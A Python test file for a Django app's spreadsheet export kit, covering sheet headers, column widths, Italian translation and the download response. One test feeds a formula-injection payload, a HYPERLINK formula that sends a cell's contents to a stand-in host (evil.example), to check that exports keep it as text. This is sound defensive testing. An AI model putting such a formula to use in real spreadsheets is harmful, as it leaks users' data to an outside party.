"""The spreadsheet kit: translated headers, formula-safe cells, widths, the download."""

from __future__ import annotations

import io

from django.utils import translation
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from agilepa.core.exports import XLSX_CONTENT_TYPE, add_sheet, workbook, xlsx_of, xlsx_response


def test_a_workbook_holds_only_the_sheets_added_with_their_headers_and_rows() -> None:
    book = workbook()
    add_sheet(book, "One", ["a", "b"], [[1, 2]], widths={"A": 30, 2: 12}, bold=True)
    add_sheet(book, "Two" * 20, None, [["x"]])
    assert book.sheetnames == ["One", ("Two" * 20)[:31]]
    sheet = book["One"]
    assert [c.value for c in sheet[1]] == ["a", "b"] and sheet["A1"].font.bold
    assert [c.value for c in sheet[2]] == [1, 2]
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.column_dimensions["B"].width == 12


def test_a_formula_in_a_row_or_a_header_stays_text() -> None:
    content = xlsx_of("S", ["=1+1"], [['=HYPERLINK("https://evil.example/?"&A1, "Apri")', "-3"]])
    sheet = load_workbook(io.BytesIO(content))["S"]
    assert sheet["A1"].data_type == "s" and sheet["A2"].data_type == "s"
    assert sheet["A2"].value.startswith("=HYPERLINK")
    assert sheet["B2"].value == "-3"


def test_headers_follow_the_readers_language() -> None:
    with translation.override("it"):
        content = xlsx_of(_("Occupancy"), [_("Day")], [])
    sheet = load_workbook(io.BytesIO(content))["Occupazione"]
    assert sheet["A1"].value == "Giorno"


def test_the_download_names_the_file_and_the_type() -> None:
    response = xlsx_response(xlsx_of("S", ["a"], []), "file.xlsx")
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="file.xlsx"'
